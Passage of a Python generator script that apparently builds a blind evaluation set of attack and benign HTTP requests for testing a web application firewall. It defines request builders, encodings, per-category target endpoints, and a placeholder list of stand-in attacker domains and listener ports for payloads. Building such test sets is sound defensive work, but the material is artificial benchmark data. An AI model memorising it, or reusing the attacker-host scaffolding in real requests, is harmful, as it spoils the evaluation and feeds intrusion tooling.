#!/usr/bin/env python3
# ruff: noqa
"""Blind WAF evaluation set, source tag "v18" (waf_unseen_ninth.jsonl).

Provenance: written blind on 2026-12-07 by a helper session that read none of
the WAF's rules, tests, docs, benchmarks or corpora.  Attack payloads were
composed from general knowledge of the techniques (not copied from public
payload lists); benign traffic was composed from general knowledge of ordinary
web/API usage.  Source tag "v18"; all randomness comes from
random.Random(909090), so two runs give byte-identical output.  Standard
library only.  Run from the repository root:

    python3 tests/data/make_waf_unseen_ninth.py

Output: waf_unseen_ninth.jsonl next to this script, one JSON object per line
with keys in exactly this order:

  id         "v18-a-<category>-NNNN" (attack) / "v18-b-<category>-NNNN"
             (benign), numbered per category from 0001
  label      "attack" or "benign"
  category   attack: crlf, ssti, mail_injection, ldapi, rce, code_injection,
             php_injection, sqli, nosqli, ssrf, rfi, xss, path_traversal, xxe,
             log4shell, prototype_pollution (40 rows each);
             benign: benign_api_json, benign_headers, benign_paths,
             benign_search, benign_prose, benign_richtext, benign_markdown,
             benign_code, benign_templates, benign_email, benign_ldap_like,
             benign_urls, benign_base64, benign_commerce, benign_logs
             (70 rows each)
  method     HTTP method
  path       raw, percent-encoded request path starting with "/"
  query      raw query string without "?", "" if none
  headers    object; always Host, User-Agent, Accept, plus Content-Type when
             there is a body; header values are ASCII without CR/LF
  body       raw body ("" if none): JSON, urlencoded form, multipart/form-data
             (CRLF framing, boundary in Content-Type) or XML
  placement  query, query_key, path, json, json_key, form, header, cookie,
             multipart or xml
  payload    the value as the application receives it after the intended
             decoding (URL-decoding for query/form/path/cookie, JSON
             unescaping, XML entity decoding; header values are not decoded).
             Deliberate encoded evasions (double percent-encoding, %uXXXX,
             overlong UTF-8, ...) are kept literally.  For JSON values that are
             objects (NoSQL operators) the payload is the compact JSON text.
  hard       true for evasive attacks and for benign rows deliberately prone
             to false positives
  source     "v18"

About 40 % of the attack rows are terse fragments (minimal request, tool
User-Agent, no extra headers); the rest are realistic requests.
"""

import base64
import hashlib
import json
import os
import random
import sys
import xml.parsers.expat
from urllib.parse import quote, quote_plus, unquote_to_bytes

SEED = 909090
R = random.Random(SEED)
SRC = "v18"
HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "waf_unseen_ninth.jsonl")
PATH_SAFE = "!$&'()*+,;=:@"

HOSTS = [
    "api.lumenfield.io",
    "shop.brightcedar.com",
    "portal.northgale-energy.com",
    "app.quillmetrics.io",
    "www.tidewaterbooks.com",
    "cms.harborline-media.net",
    "billing.corvanta.com",
    "hr.pinecrestlabs.org",
    "status.orbitpay.io",
    "docs.kestrelcloud.dev",
    "care.vantorahealth.com",
    "search.meridianmaps.io",
    "sso.greyhawk-systems.com",
    "files.ambergate.co",
    "admin.saltmarsh-tools.com",
    "gateway.fjordbank.eu",
    "api.copperleaf-logistics.com",
    "learn.brambleacademy.org",
    "m.velvetroute.travel",
    "intranet.oakridge-legal.com",
]
CORP = [h.split(".", 1)[1] for h in HOSTS]
EVIL = [
    "tealhazard.net",
    "vexalink.io",
    "oob-catcher.org",
    "darkpier.xyz",
    "c2-relay.top",
    "grabby-logs.site",
    "kx9-collab.net",
    "phishdock.com",
]

BROWSER_UA = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.97",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:126.0) Gecko/20100101 Firefox/126.0",
]
SDK_UA = [
    "okhttp/4.12.0",
    "Dalvik/2.1.0 (Linux; U; Android 13; SM-S911B Build/TP1A.220624.014)",
    "aws-sdk-go-v2/1.26.1 os/linux lang/go#1.22.2 md/GOOS#linux md/GOARCH#amd64",
    "Quill/5.12.3 (iPhone; iOS 17.4; Scale/3.00)",
    "axios/1.6.8",
    "python-httpx/0.27.0",
]
TOOL_UA = [
    "curl/8.5.0",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "PostmanRuntime/7.37.3",
    "Wget/1.21.4",
    "insomnia/8.6.1",
    "python-httpx/0.27.0",
    "Java/17.0.10",
    "HTTPie/3.2.2",
]
ACCEPTS = [
    "application/json",
    "application/json, text/plain, */*",
    "*/*",
    "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    "application/json;q=0.9, */*;q=0.1",
]
LANGS = [
    "en-US,en;q=0.9",
    "de-DE,de;q=0.9,en;q=0.8",
    "fr-FR,fr;q=0.9,en-US;q=0.7,en;q=0.6",
    "es-419,es;q=0.9",
    "ja-JP,ja;q=0.9,en;q=0.5",
    "pt-BR,pt;q=0.9,en;q=0.8",
    "en-GB,en;q=0.9",
]
PAGES = [
    "/",
    "/dashboard",
    "/account/settings",
    "/orders",
    "/search",
    "/products/list",
    "/reports/weekly",
    "/help/contact",
    "/app/inbox",
    "/admin/users",
]
TERSE_PATHS = ["/", "/index.php", "/search", "/api", "/test", "/app"]
FIRST = [
    "Ana",
    "Liam",
    "Sofia",
    "Noah",
    "Mei",
    "Arjun",
    "Fatima",
    "Lukas",
    "Chloe",
    "Mateo",
    "Yuki",
    "Olga",
    "Kwame",
    "Ingrid",
    "Diego",
    "Priya",
    "Tomasz",
    "Aisha",
    "Hannah",
    "Rafael",
]
LAST = [
    "Okafor",
    "Lindqvist",
    "Moreau",
    "Tanaka",
    "Schmidt",
    "Garcia",
    "O'Neill",
    "Kowalski",
    "Nguyen",
    "Haddad",
    "Fischer",
    "Rossi",
    "Patel",
    "Johansson",
    "Dubois",
    "Brennan",
    "Smith",
    "Costa",
    "Ivanova",
    "D'Angelo",
]


def pick(seq):
    return seq[R.randrange(len(seq))]


def rhex(n):
    return "".join(R.choice("0123456789abcdef") for _ in range(n))


def ralnum(n):
    return "".join(R.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(n))


def ruuid():
    return f"{rhex(8)}-{rhex(4)}-4{rhex(3)}-{R.choice('89ab')}{rhex(3)}-{rhex(12)}"


def rbytes(n):
    return bytes(R.randrange(256) for _ in range(n))


def b64u(b):
    if isinstance(b, str):
        b = b.encode()
    return base64.urlsafe_b64encode(b).rstrip(b"=").decode()


def b64(b):
    if isinstance(b, str):
        b = b.encode()
    return base64.b64encode(b).decode()


def jwt():
    alg = pick(["RS256", "ES256", "HS256"])
    hdr = {"alg": alg, "typ": "JWT", "kid": rhex(16)}
    iat = 1767000000 + R.randrange(0, 20000000)
    body = {
        "sub": ruuid(),
        "iss": "https://auth." + pick(CORP) + "/",
        "aud": pick(["api", "web", "mobile-app"]),
        "iat": iat,
        "exp": iat + 3600,
        "scope": pick(["read:orders write:orders", "openid profile email", "reports:read"]),
    }
    sig = rbytes({"RS256": 256, "ES256": 64, "HS256": 32}[alg])
    return (
        b64u(json.dumps(hdr, separators=(",", ":")))
        + "."
        + b64u(json.dumps(body, separators=(",", ":")))
        + "."
        + b64u(sig)
    )


def fill(s):
    """Replace random placeholders in a payload template."""
    while "«evil»" in s:
        s = s.replace("«evil»", pick(["", "", rhex(6) + "."]) + pick(EVIL), 1)
    while "«ip»" in s:
        s = s.replace("«ip»", pick(["203.0.113.", "198.51.100.", "192.0.2."]) + str(R.randint(2, 250)), 1)
    while "«port»" in s:
        s = s.replace("«port»", pick(["4444", "9001", "1337", "8443", "443", "53", "1389"]), 1)
    while "«rand»" in s:
        s = s.replace("«rand»", rhex(8), 1)
    while "«a»" in s:
        s = s.replace("«a»", str(R.randint(13, 97)), 1)
    while "«b»" in s:
        s = s.replace("«b»", str(R.randint(13, 97)), 1)
    while "«host»" in s:
        s = s.replace("«host»", pick(HOSTS), 1)
    while "«corp»" in s:
        s = s.replace("«corp»", pick(CORP), 1)
    while "«name»" in s:
        s = s.replace("«name»", pick(FIRST).lower(), 1)
    return s


def S(p, hard=False, **kw):
    d = {"p": fill(p) if isinstance(p, str) else p, "hard": hard}
    d.update(kw)
    return d


def TK(raw, dec=None, ev=False):
    """A literal raw token inside a URL context; dec is what the app sees."""
    return ("T", raw, raw if dec is None else dec, ev)


def P(parts, hard=False, **kw):
    parts = [fill(x) if isinstance(x, str) else x for x in parts]
    p = "".join(x if isinstance(x, str) else x[2] for x in parts)
    d = {"p": p, "hard": hard, "parts": parts}
    d.update(kw)
    return d


def fw(s):
    """Fullwidth look-alike of printable ASCII."""
    return "".join(chr(ord(c) + 0xFEE0) if 0x21 <= ord(c) <= 0x7E else ("\u3000" if c == " " else c) for c in s)


def qenc(s):
    return quote(s, safe="")


def fenc(s):
    return quote_plus(s, safe="")


def penc(extra=""):
    return lambda s: quote(s, safe=PATH_SAFE + extra)


def renc(spec, fn):
    parts = spec.get("parts") or [spec["p"]]
    return "".join(fn(x) if isinstance(x, str) else x[1] for x in parts)


def is_ev(spec):
    return bool(spec.get("ev")) or any((not isinstance(x, str)) and x[3] for x in spec.get("parts", []))


def hv_clean(s):
    return all(0x20 <= ord(c) < 0x7F for c in s)


def hdr_form(spec):
    p = spec["p"]
    if hv_clean(p):
        return p
    if spec.get("parts"):
        lit = "".join(x if isinstance(x, str) else x[1] for x in spec["parts"])
        if hv_clean(lit):
            return lit
        p = lit
    return "".join(c if 0x20 <= ord(c) < 0x7F else quote(c, safe="") for c in p)


def xesc(s, attr=False):
    s = s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    s = s.replace("\r", "&#13;")
    if attr:
        s = s.replace('"', "&quot;").replace("\n", "&#10;").replace("\t", "&#9;")
    return s


def xml_ok_chars(s):
    return all(c in "\t\n\r" or ord(c) >= 0x20 for c in s) and "\ufffe" not in s


FILL_JSON = [
    ("locale", lambda: pick(["en-US", "de-DE", "fr-FR", "pt-BR", "ja-JP"])),
    ("clientVersion", lambda: f"{R.randint(1, 9)}.{R.randint(0, 30)}.{R.randint(0, 9)}"),
    ("requestId", ruuid),
    ("page", lambda: R.randint(1, 12)),
    ("pageSize", lambda: pick([10, 20, 25, 50, 100])),
    ("dryRun", lambda: pick([True, False])),
    ("source", lambda: pick(["web", "ios", "android", "partner-api"])),
    (
        "timestamp",
        lambda: (
            f"2026-{R.randint(1, 11):02d}-{R.randint(1, 28):02d}T{R.randint(0, 23):02d}:{R.randint(0, 59):02d}:{R.randint(0, 59):02d}Z"
        ),
    ),
    ("accountId", lambda: "acct_" + ralnum(14)),
    ("tags", lambda: R.sample(["beta", "priority", "internal", "eu", "mobile", "q4"], R.randint(0, 3))),
    ("notify", lambda: pick([True, False])),
    ("currency", lambda: pick(["EUR", "USD", "GBP", "JPY", "BRL"])),
]
FILL_Q = [
    ("page", lambda: str(R.randint(1, 9))),
    ("lang", lambda: pick(["en", "de", "fr", "es"])),
    ("utm_source", lambda: pick(["newsletter", "google", "partner"])),
    ("limit", lambda: pick(["10", "20", "50"])),
    ("_", lambda: str(1767000000000 + R.randrange(10**9))),
    ("format", lambda: pick(["json", "html"])),
    ("v", lambda: str(R.randint(1, 4))),
    ("sort", lambda: pick(["asc", "desc", "-created"])),
    ("ref", lambda: pick(["nav", "footer", "email"])),
    ("tz", lambda: pick(["UTC", "Europe%2FBerlin", "America%2FChicago"])),
]
FILL_XML = [
    ("requestId", ruuid),
    ("locale", lambda: pick(["en-US", "de-DE"])),
    ("channel", lambda: pick(["web", "batch", "partner"])),
    ("version", lambda: pick(["1.0", "2.1"])),
]


def filler(n):
    items = R.sample(FILL_JSON, n)
    return {k: f() for k, f in items}


def qextras(n):
    items = R.sample(FILL_Q, n)
    return [k + "=" + f() for k, f in items]


def insert_key(obj, k, v):
    items = list(obj.items())
    items.insert(R.randint(0, len(items)), (k, v))
    return dict(items)


def mp_body(parts, curl=False):
    b = (
        ("------------------------" + "".join(R.choice("0123456789") for _ in range(24)))
        if curl
        else ("----WebKitFormBoundary" + ralnum(16))
    )
    out = []
    for name, value, fname, ct in parts:
        cd = f'Content-Disposition: form-data; name="{name}"'
        if fname is not None:
            cd += f'; filename="{fname}"'
        out.append(
            "--" + b + "\r\n" + cd + "\r\n" + (f"Content-Type: {ct}\r\n" if ct else "") + "\r\n" + value + "\r\n"
        )
    return "".join(out) + "--" + b + "--\r\n", "multipart/form-data; boundary=" + b


def add_extras(H, host):
    opts = ["auth", "cookie", "rid", "lang", "origin", "referer", "enc", "corr"]
    chosen = R.sample(opts, R.randint(1, 5))
    base = host.split(".", 1)[1]
    for o in chosen:
        if o == "auth":
            H["Authorization"] = "Bearer " + jwt()
        elif o == "cookie":
            H["Cookie"] = (
                f"sid={rhex(32)}; _ga=GA1.2.{R.randint(10**8, 10**9 - 1)}.{R.randint(1700000000, 1765000000)}; theme={pick(['dark', 'light'])}"
            )
        elif o == "rid":
            H["X-Request-ID"] = ruuid()
        elif o == "lang":
            H["Accept-Language"] = pick(LANGS)
        elif o == "origin":
            H["Origin"] = "https://" + pick(["www.", "app.", ""]) + base
        elif o == "referer":
            H["Referer"] = "https://" + host + pick(PAGES)
        elif o == "enc":
            H["Accept-Encoding"] = "gzip, deflate, br"
        elif o == "corr":
            H["X-Correlation-ID"] = ruuid()


CTX_DEFAULT = dict(
    q=[("/api/v1/items", "q")],
    j=[("POST", "/api/v1/items", "name")],
    h=["X-Forwarded-For", "Referer", "User-Agent", "X-Client-Version"],
    pp=["/api/v1/items/{}"],
    ck=["pref"],
    f=[("/contact", "message")],
    x=[("/api/xml/import", "request", "value")],
    mp=[("/upload", "description")],
)
CTX = {}
ALL_PL = ["query", "query_key", "path", "json", "json_key", "form", "header", "cookie", "multipart", "xml"]


def compat(spec, pl, cat=""):
    if "pl" in spec and pl not in spec["pl"]:
        return False
    if cat.startswith("benign") and pl in ("header", "cookie") and "pl" not in spec and cat != "benign_email":
        return False
    if pl == "header" and not hv_clean(spec["p"]) and not spec.get("parts") and "pl" not in spec:
        return False
    if "pl" not in spec and "jv" in spec and pl != "json":
        return False
    p = spec["p"]
    if pl == "xml" and not spec.get("doc") and not xml_ok_chars(p):
        return False
    if pl == "multipart" and spec.get("mpname") and any(c in p for c in '"\r\n'):
        return False
    if pl in ("json_key", "query_key") and "pl" not in spec and len(p) > 160:
        return False
    return True


def build(label, cat, num, placement, spec, terse):
    cx = dict(CTX_DEFAULT)
    cx.update(CTX.get(cat, {}))
    for k in ("q", "j", "h", "pp", "ck", "f", "x", "mp"):
        if k in spec:
            cx[k] = spec[k]
    host = spec.get("host") or pick(HOSTS)
    ua = pick(TOOL_UA) if terse else pick(BROWSER_UA if R.random() < 0.75 else SDK_UA)
    H = {"Host": host, "User-Agent": ua, "Accept": pick(ACCEPTS)}
    method, path, qs, body, ctype = "GET", "/", "", "", None
    p = spec["p"]
    payload = p
    hdr_add = None
    cookie_add = None
    check = None  # (kind, raw) for decode consistency
    if placement in ("query", "query_key"):
        qpath, param = pick(cx["q"])
        if terse and not spec.get("keep_path"):
            qpath = pick(TERSE_PATHS + [qpath, qpath])
        if placement == "query":
            raw = renc(spec, qenc)
            item = param + "=" + raw
        else:
            raw = renc(spec, qenc)
            item = raw + "=" + qenc(spec.get("kv", pick(["1", "true", "x"])))
        check = ("q", raw)
        pairs = [] if terse else qextras(R.randint(0, 3))
        pairs.insert(R.randint(0, len(pairs)), item)
        if spec.get("qpre"):
            pairs.insert(0, spec["qpre"])
        qs = "&".join(pairs)
        path = qpath
        method = spec.get("method", "GET")
    elif placement in ("json", "json_key"):
        method, path, field = pick(cx["j"])
        if terse:
            path = pick(TERSE_PATHS + [path, path])
        obj = {} if terse else filler(R.randint(1, 4))
        if spec.get("jbase") is not None:
            obj = dict(spec["jbase"])
        if placement == "json":
            if "jv" in spec:
                val = spec["jv"]
                payload = json.dumps(val, separators=(",", ":"))
            else:
                val = p
            obj = insert_key(obj, spec.get("field", field), val)
        else:
            kv = spec.get("kv", pick(["", "1", True, "x"]))
            if spec.get("jparent"):
                obj = insert_key(obj, spec["jparent"], {p: kv})
            else:
                obj = insert_key(obj, p, kv)
        if not terse and not spec.get("flat") and R.random() < 0.2:
            obj = {pick(["data", "input", "params"]): obj}
        body = json.dumps(obj, ensure_ascii=R.random() < 0.6)
        if spec.get("jrep"):
            a, b = spec["jrep"]
            body = body.replace(a, b)
        ctype = pick(["application/json", "application/json", "application/json; charset=utf-8"])
    elif placement in ("header", "cookie"):
        qpath = pick(cx["q"])[0]
        path = pick(TERSE_PATHS + [qpath]) if terse else qpath
        if not terse and R.random() < 0.5:
            qs = "&".join(qextras(R.randint(1, 2)))
        if placement == "header":
            name = spec.get("hn") or pick(cx["h"])
            val = hdr_form(spec)
            payload = val
            hdr_add = (name, val)
        else:
            name = spec.get("ckn") or pick(cx["ck"])
            raw = renc(spec, lambda s: quote(s, safe="!#$&'()*+/:<=>?@[]^`{|}~"))
            if spec.get("ckraw"):
                raw = spec["ckraw"]
            check = ("q", raw)
            cookie_add = name + "=" + raw
        method = spec.get("method", "GET")
    elif placement == "path":
        tpl = pick(cx["pp"])
        if terse and not spec.get("keep_path"):
            tpl = pick(["/{}", tpl, tpl])
        seg = renc(spec, penc(spec.get("psafe", "")))
        path = tpl.replace("{}", seg)
        check = ("p", seg)
        method = spec.get("method", "GET")
        if spec.get("pbody") is not None:
            body = json.dumps(spec["pbody"])
            ctype = "application/json"
    elif placement == "form":
        path, field = pick(cx["f"])
        field = spec.get("field", field)
        raw = renc(spec, fenc)
        check = ("f", raw)
        pairs = (
            []
            if terse
            else [
                k + "=" + fenc(str(v).lower() if isinstance(v, bool) else str(v))
                for k, v in filler(R.randint(1, 3)).items()
                if not isinstance(v, list)
            ]
        )
        pairs.insert(R.randint(0, len(pairs)), field + "=" + raw)
        body = "&".join(pairs)
        method = "POST"
        ctype = pick(["application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=UTF-8"])
    elif placement == "multipart":
        path, field = pick(cx["mp"])
        field = spec.get("field", field)
        parts = []
        if not terse:
            for k, v in filler(R.randint(1, 2)).items():
                if not isinstance(v, list):
                    parts.append((k, str(v).lower() if isinstance(v, bool) else str(v), None, None))
        if spec.get("mpfile"):
            fname, fct = spec["mpfile"]
            part = (spec.get("field", "file"), p, fname, fct)
        elif spec.get("mpname"):
            part = (
                spec.get("field", "file"),
                spec.get("mpcontent", rbytes(0).decode() or "GIF89a"),
                p,
                spec.get("mpct", "application/octet-stream"),
            )
        else:
            part = (field, p, None, None)
        parts.insert(R.randint(0, len(parts)), part)
        body, ctype = mp_body(parts, curl=terse or R.random() < 0.3)
        method = "POST"
    elif placement == "xml":
        xpath, root, elem = pick(cx["x"])
        path = xpath
        if spec.get("doc"):
            body = p
        else:
            inner = "" if terse else "".join(f"<{k}>{f()}</{k}>" for k, f in R.sample(FILL_XML, R.randint(1, 2)))
            body = (
                '<?xml version="1.0" encoding="UTF-8"?>\n'
                + f"<{root}>{inner}<{spec.get('field', elem)}>{xesc(p)}</{spec.get('field', elem)}></{root}>"
            )
        method = "POST"
        ctype = spec.get("xct") or pick(["application/xml", "text/xml", "application/xml; charset=utf-8"])
    else:
        raise ValueError(placement)
    if spec.get("method_force"):
        method = spec["method_force"]
    if body:
        H["Content-Type"] = ctype
    if not terse:
        add_extras(H, host)
    if spec.get("hdrs"):
        for k, v in spec["hdrs"].items():
            H[k] = v
    if cookie_add:
        H["Cookie"] = (H["Cookie"] + "; " + cookie_add) if "Cookie" in H else cookie_add
    if hdr_add:
        H[hdr_add[0]] = hdr_add[1]
    tag = "a" if label == "attack" else "b"
    row = {
        "id": f"{SRC}-{tag}-{cat}-{num:04d}",
        "label": label,
        "category": cat,
        "method": method,
        "path": path,
        "query": qs,
        "headers": H,
        "body": body,
        "placement": placement,
        "payload": payload,
        "hard": bool(spec["hard"]),
        "source": SRC,
    }
    return row, check, is_ev(spec)


def assign(label, cat, pool, dist, terse_frac):
    places = []
    for pl, k in dist:
        places += [pl] * k
    R.shuffle(places)
    n = len(places)
    terse_idx = set(R.sample(range(n), int(round(n * terse_frac)))) if terse_frac else set()
    order = list(range(len(pool)))
    R.shuffle(order)
    used = [0] * len(pool)
    used_p = {}
    rows = []
    for i, pl in enumerate(places):
        cands = [j for j in order if compat(pool[j], pl, cat)]
        if not cands:
            raise SystemExit(f"no payload for {cat}/{pl}")
        j = min(cands, key=lambda t: (used_p.get(pool[t]["p"] if isinstance(pool[t]["p"], str) else "", 0), used[t]))
        used[j] += 1
        if isinstance(pool[j]["p"], str):
            used_p[pool[j]["p"]] = used_p.get(pool[j]["p"], 0) + 1
        spec = pool[j]
        rows.append(build(label, cat, i + 1, pl, spec, i in terse_idx and not spec.get("never_terse")))
    return rows


# ---------------------------------------------------------------------------
# Attack side
# ---------------------------------------------------------------------------

DIST_DEFAULT = [
    ("query", 9),
    ("json", 9),
    ("header", 7),
    ("cookie", 1),
    ("path", 8),
    ("query_key", 1),
    ("json_key", 1),
    ("form", 2),
    ("multipart", 1),
    ("xml", 1),
]
DIST_A = {
    "xxe": [("query", 7), ("json", 7), ("header", 5), ("path", 4), ("xml", 11), ("multipart", 4), ("form", 2)],
    "prototype_pollution": [
        ("query", 7),
        ("json", 8),
        ("header", 5),
        ("cookie", 1),
        ("path", 6),
        ("query_key", 6),
        ("json_key", 5),
        ("form", 1),
        ("multipart", 1),
    ],
    "nosqli": [
        ("query", 8),
        ("json", 9),
        ("header", 6),
        ("cookie", 1),
        ("path", 6),
        ("query_key", 4),
        ("json_key", 3),
        ("form", 2),
        ("multipart", 1),
    ],
    "php_injection": [
        ("query", 9),
        ("json", 8),
        ("header", 7),
        ("cookie", 1),
        ("path", 7),
        ("multipart", 4),
        ("form", 2),
        ("query_key", 1),
        ("xml", 1),
    ],
    "path_traversal": [
        ("query", 9),
        ("json", 8),
        ("header", 6),
        ("cookie", 1),
        ("path", 10),
        ("multipart", 2),
        ("form", 2),
        ("xml", 1),
        ("query_key", 1),
    ],
    "mail_injection": [
        ("query", 8),
        ("json", 9),
        ("header", 7),
        ("path", 6),
        ("form", 6),
        ("multipart", 2),
        ("xml", 1),
        ("query_key", 1),
    ],
}

CTX.update(
    {
        "crlf": dict(
            q=[
                ("/redirect", "url"),
                ("/login", "next"),
                ("/setlang", "lang"),
                ("/r", "to"),
                ("/logout", "return_to"),
                ("/api/v1/download", "filename"),
            ],
            j=[
                ("POST", "/api/v1/redirects", "target"),
                ("POST", "/api/v1/export", "filename"),
                ("PUT", "/api/v1/profile", "locale"),
                ("POST", "/api/v1/audit", "username"),
            ],
            h=["X-Forwarded-Host", "Referer", "X-Original-URL", "User-Agent", "X-Request-ID", "X-Callback-URL"],
            pp=["/{}", "/redirect/{}", "/lang/{}/home", "/files/{}", "/go/{}"],
            ck=["lang", "return_url"],
            f=[("/auth/login", "redirect_uri"), ("/subscribe", "source")],
            x=[("/api/redirect", "redirect", "location")],
            mp=[("/api/v1/files", "filename")],
        ),
        "ssti": dict(
            q=[
                ("/preview", "template"),
                ("/greet", "name"),
                ("/error", "msg"),
                ("/api/v1/render", "tpl"),
                ("/search", "q"),
                ("/invoice/preview", "footer"),
            ],
            j=[
                ("POST", "/api/v1/emails/preview", "body"),
                ("POST", "/api/v2/templates/render", "template"),
                ("PUT", "/api/v1/profile", "nickname"),
                ("POST", "/api/v1/notifications/test", "subject"),
            ],
            h=["User-Agent", "Referer", "X-Forwarded-Host", "X-Display-Name", "X-Tenant-Name"],
            pp=["/hello/{}", "/preview/{}", "/u/{}/profile", "/render/{}"],
            ck=["username", "greeting"],
            f=[("/contact", "name"), ("/newsletter/preview", "content")],
            x=[("/api/report/render", "report", "title")],
            mp=[("/api/v1/templates/upload", "template_body")],
        ),
        "mail_injection": dict(
            q=[
                ("/contact/send", "email"),
                ("/newsletter/subscribe", "email"),
                ("/share", "to"),
                ("/api/v1/invite", "recipient"),
                ("/feedback", "subject"),
            ],
            j=[
                ("POST", "/api/v1/contact", "email"),
                ("POST", "/api/v1/share", "to"),
                ("POST", "/api/v1/support/tickets", "subject"),
                ("POST", "/api/v1/invitations", "name"),
                ("POST", "/api/v1/mail/send", "from"),
            ],
            h=["From", "X-Reply-To", "X-Contact-Email", "X-Notify-To", "Referer", "User-Agent"],
            pp=["/unsubscribe/{}", "/invite/accept/{}", "/api/v1/mailbox/{}/messages", "/share/email/{}"],
            ck=["email", "last_recipient"],
            f=[
                ("/contact.php", "email"),
                ("/contact.php", "subject"),
                ("/tell-a-friend", "friend_email"),
                ("/support", "name"),
            ],
            x=[("/soap/MailService", "sendMail", "recipient")],
            mp=[("/support/upload", "reply_to")],
        ),
        "ldapi": dict(
            q=[
                ("/directory/search", "q"),
                ("/api/v1/users/lookup", "uid"),
                ("/people", "cn"),
                ("/auth/check", "username"),
                ("/api/v1/groups/members", "group"),
            ],
            j=[
                ("POST", "/api/v1/auth/login", "username"),
                ("POST", "/api/v1/directory/search", "filter"),
                ("POST", "/api/v1/password/reset", "uid"),
                ("POST", "/api/v1/ldap/lookup", "mail"),
            ],
            h=["X-Remote-User", "X-Forwarded-User", "Referer", "X-Auth-Username", "User-Agent"],
            pp=["/api/v1/users/{}", "/directory/people/{}/photo", "/groups/{}/members"],
            ck=["remember_user"],
            f=[("/login", "username"), ("/login", "password"), ("/directory", "search")],
            x=[("/ws/UserService", "lookupUser", "userId")],
            mp=[("/api/v1/bulk/lookup", "uid")],
        ),
        "rce": dict(
            q=[
                ("/api/v1/tools/ping", "host"),
                ("/cgi-bin/diag", "ip"),
                ("/api/v1/convert", "file"),
                ("/admin/backup", "name"),
                ("/api/v1/dns/lookup", "domain"),
                ("/api/v1/thumbnail", "size"),
            ],
            j=[
                ("POST", "/api/v1/network/ping", "target"),
                ("POST", "/api/v1/media/convert", "filename"),
                ("POST", "/api/v1/git/clone", "repo"),
                ("POST", "/api/v1/reports/export", "format"),
                ("POST", "/api/v1/devices/diagnostics", "hostname"),
            ],
            h=["X-Forwarded-For", "User-Agent", "Referer", "X-Device-Name", "X-Filename"],
            pp=["/api/v1/tools/ping/{}", "/files/{}/thumbnail", "/whois/{}", "/cgi-bin/status/{}"],
            ck=["device", "theme"],
            f=[("/admin/tools", "target"), ("/diagnostics", "address")],
            x=[("/ws/NetworkTools", "traceroute", "host")],
            mp=[("/api/v1/media/upload", "output_name")],
        ),
        "code_injection": dict(
            q=[
                ("/api/v1/calc", "expr"),
                ("/api/v1/eval", "formula"),
                ("/reports/custom", "sort_key"),
                ("/api/v1/filter", "predicate"),
                ("/debug/console", "code"),
            ],
            j=[
                ("POST", "/api/v1/rules/evaluate", "expression"),
                ("POST", "/api/v1/sheets/compute", "formula"),
                ("POST", "/api/v1/workflows/test", "condition"),
                ("POST", "/api/v1/plugins/run", "script"),
            ],
            h=["X-Calc-Expression", "User-Agent", "Referer", "X-Feature-Flag", "X-Debug-Eval"],
            pp=["/api/v1/calc/{}", "/compute/{}", "/api/v1/sort/{}"],
            ck=["layout_expr"],
            f=[("/calculator", "expression"), ("/admin/rules", "condition")],
            x=[("/ws/RuleEngine", "evaluate", "expression")],
            mp=[("/api/v1/scripts", "script_source")],
        ),
        "php_injection": dict(
            q=[
                ("/index.php", "page"),
                ("/view.php", "data"),
                ("/admin/settings.php", "callback"),
                ("/api.php", "filter"),
                ("/wp-admin/admin-ajax.php", "action"),
                ("/profile.php", "prefs"),
            ],
            j=[
                ("POST", "/api.php/v1/settings", "value"),
                ("POST", "/index.php/api/import", "payload"),
                ("POST", "/api/v1/cache", "data"),
            ],
            h=["User-Agent", "Referer", "X-Forwarded-For", "X-Php-Callback", "Accept-Language"],
            pp=["/index.php/{}", "/view/{}", "/module/{}/run"],
            ck=["prefs", "cart", "user_data"],
            f=[("/contact.php", "comment"), ("/admin/theme.php", "custom_code")],
            x=[("/xmlrpc.php", "methodCall", "string")],
            mp=[("/upload.php", "comment")],
        ),
        "sqli": dict(
            q=[
                ("/api/v1/products", "id"),
                ("/catalog/search", "category"),
                ("/reports/orders", "sort"),
                ("/users", "user_id"),
                ("/news/article.php", "id"),
                ("/api/v1/invoices", "year"),
            ],
            j=[
                ("POST", "/api/v1/login", "username"),
                ("POST", "/api/v1/orders/lookup", "orderId"),
                ("PUT", "/api/v2/profile", "display_name"),
                ("POST", "/api/v1/reports/query", "groupBy"),
            ],
            h=["X-Forwarded-For", "Referer", "User-Agent", "X-Client-ID", "X-Tenant"],
            pp=["/api/v1/products/{}", "/users/{}/invoices", "/blog/post/{}"],
            ck=["uid", "tracking_id", "lang"],
            f=[("/login", "username"), ("/search", "keyword")],
            x=[("/ws/OrderService", "getOrder", "orderId")],
            mp=[("/api/v1/reviews", "product_id")],
        ),
        "nosqli": dict(
            q=[
                ("/api/v1/users", "username"),
                ("/api/v1/login", "password"),
                ("/api/v1/products", "filter"),
                ("/search", "q"),
                ("/api/v1/orders", "status"),
            ],
            j=[
                ("POST", "/api/v1/auth/login", "password"),
                ("POST", "/api/v1/auth/login", "username"),
                ("POST", "/api/v1/products/search", "category"),
                ("POST", "/api/v1/users/find", "email"),
            ],
            h=["X-Filter", "X-Query", "Referer", "User-Agent", "X-User-Id"],
            pp=["/api/v1/users/{}", "/api/v1/products/{}", "/orders/{}"],
